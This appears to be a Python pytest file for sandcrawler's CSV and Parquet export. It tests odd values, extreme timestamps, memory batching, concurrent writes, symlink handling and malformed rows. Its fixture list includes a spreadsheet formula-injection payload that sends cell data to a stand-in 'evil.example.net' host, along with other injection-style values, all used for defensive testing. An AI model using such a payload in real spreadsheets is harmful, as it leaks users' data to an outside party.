"""Rows with odd values come out as they are; rows that no program of ours wrote cost themselves at most."""

import csv
import json
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import psycopg
import pyarrow
import pytest
from pyarrow import parquet
from structlog.testing import capture_logs

from sandcrawler.config import Config
from sandcrawler.export import fatcat, tables
from sandcrawler.export.selection import Selection
from sandcrawler.persist import migrations, results
from sandcrawler.persist.postgres import PostgresSink
from tests.persist.documents import record, result

# What readers of CSV and spreadsheets trip over. Nothing is put in front of a formula: it would be another value.
ODD = [
    '=HYPERLINK("http://evil.example.net/?"&A1,"x")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\\.",
    "\\N",
    "NULL",
    'a "quoted", text',
    "two\nlines\r\nand\rmore",
    "\x01\x1b[31m\x7f\x85\u2028",
    "\t tab and blanks ",
    "\ufeffmark",
    "𝔘𝔫𝔦 é é \U0010ffff",
    "x" * 200_000,
]


@pytest.fixture
def config(stack_config: Callable[..., Config]) -> Config:
    config = stack_config()
    migrations.make(config)
    sink = PostgresSink(config)
    sink.write([results.decode(record(result(n))) for n in (1, 2)])
    sink.close()
    return config


def change(config: Config, query: str, *given: Any) -> None:
    with psycopg.connect(config.postgres_url or "", autocommit=True) as connection:
        connection.execute(query, given)


@pytest.mark.parametrize("odd", ODD, ids=range(len(ODD)))
def test_odd_values_come_out_equal(config: Config, tmp_path: Path, odd: str) -> None:
    change(config, "UPDATE file_meta SET mimetype = %s", odd)
    change(config, "UPDATE html_meta SET biblio = %s, resources = NULL", json.dumps({"title": odd}))
    tables.export(config, tmp_path, "csv", Selection())
    tables.export(config, tmp_path, "parquet", Selection())
    for name, column in (("file_meta", "mimetype"), ("html_meta", "biblio")):
        with (tmp_path / f"{name}.csv").open(newline="", encoding="utf-8") as file:
            csv.field_size_limit(1 << 20)
            told = [row[column] for row in csv.DictReader(file)]
        typed = parquet.read_table(tmp_path / f"{name}.parquet").to_pylist()
        assert told == [row[column] for row in typed]
        assert {json.loads(one)["title"] if column == "biblio" else one for one in told} == {odd}
    assert {row["resources"] for row in typed} == {None}


@pytest.mark.parametrize("moment", ["0001-01-01 00:00:00+00", "9999-12-31 23:59:59.999999+00", "1900-01-01+00"])
def test_moments_of_all_centuries_come_out_equal(config: Config, tmp_path: Path, moment: str) -> None:
    change(config, "UPDATE file_meta SET updated = %s", moment)
    tables.export(config, tmp_path, "parquet", Selection(), ["file_meta"])
    found = parquet.read_table(tmp_path / "file_meta.parquet")["updated"].cast(pyarrow.string()).to_pylist()
    assert {one[:4] for one in found} == {moment[:4]}


def test_large_values_are_not_held_by_the_thousand(
    config: Config, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Ten thousand rows of 32 MiB would be more memory than there is."""
    held: list[int] = []
    arrow_of = pyarrow.array

    def held_array(values: Any, kind: Any) -> Any:
        held.append(len(values))
        return arrow_of(values, kind)

    monkeypatch.setattr(pyarrow, "array", held_array)
    monkeypatch.setattr(tables, "BATCH_CHARACTERS", 100_000)
    change(
        config,
        "INSERT INTO file_meta SELECT lpad(n::text, 40, '0'), now(), lpad(n::text, 64, '0'), lpad(n::text, 32, '0'), n,"
        " repeat('x', 40000) FROM generate_series(1, 50) n",
    )
    tables.export(config, tmp_path, "parquet", Selection(), ["file_meta"])
    assert max(held) <= 5  # the two small rows come first
    assert parquet.read_metadata(tmp_path / "file_meta.parquet").num_rows == 52


def test_two_exports_into_one_folder_do_not_mix(
    config: Config, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    meet = threading.Barrier(2, timeout=60)
    write = tables.WRITERS["csv"]

    def together(*given: Any) -> int:
        count = write(*given)
        given[3].write_bytes(given[3].read_bytes() + threading.current_thread().name.encode())
        meet.wait()  # both have written, neither has a name yet
        return count

    monkeypatch.setattr(tables, "WRITERS", {"csv": together})
    faults: list[BaseException] = []

    def run() -> None:
        try:
            tables.export(config, tmp_path, "csv", Selection(), ["cdx"])
        except BaseException as error:  # noqa: BLE001
            faults.append(error)

    threads = [threading.Thread(target=run, name=f"the{n}") for n in (1, 2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not faults
    assert [path.name for path in tmp_path.iterdir()] == ["cdx.csv"]
    text = (tmp_path / "cdx.csv").read_text()
    assert ("the1" in text) != ("the2" in text)


def test_a_link_in_the_folder_leads_nobody_elsewhere(config: Config, tmp_path: Path) -> None:
    other = tmp_path / "other.txt"
    other.write_text("mine")
    folder = tmp_path / "out"
    folder.mkdir()
    for name in ("cdx.csv", "cdx.csv.part"):
        (folder / name).symlink_to(other)
    tables.export(config, folder, "csv", Selection(), ["cdx"])
    assert other.read_text() == "mine"
    assert not (folder / "cdx.csv").is_symlink()


DEEP = "[" * 5000 + "]" * 5000


@pytest.mark.parametrize(
    ("query", "entities"),
    [
        ("UPDATE ingest_file_result SET terminal_dt = '20230231000000' WHERE base_url LIKE '%%/1'", 1),
        ("UPDATE ingest_file_result SET terminal_dt = '99999999999999' WHERE base_url LIKE '%%/1'", 1),
        ("UPDATE ingest_file_result SET ingest_type = 'novel' WHERE base_url LIKE '%%/1'", 1),
        ("UPDATE html_meta SET resources = '[null, 1, \"x\", []]'", 2),
        ("UPDATE html_meta SET resources = jsonb_build_array(repeat('9', 5000)::numeric)", 2),
        (f"UPDATE html_meta SET resources = '{DEEP}'", 2),
        (f"UPDATE ingest_request SET request = jsonb_build_object('edit_extra', jsonb '{DEEP}')", 2),
        ('UPDATE ingest_request SET request = \'{"edit_extra": [], "fatcat": 1, "rel": {}, "ext_ids": 3}\'', 2),
    ],
)
def test_a_row_that_cannot_be_told_costs_itself_at_most(config: Config, query: str, entities: int) -> None:
    change(config, query)
    with capture_logs() as lines:
        assert len(list(fatcat.entities(config, Selection(["success"])))) == entities
    assert len([line for line in lines if line["event"] == "a document is left out"]) == 2 - entities
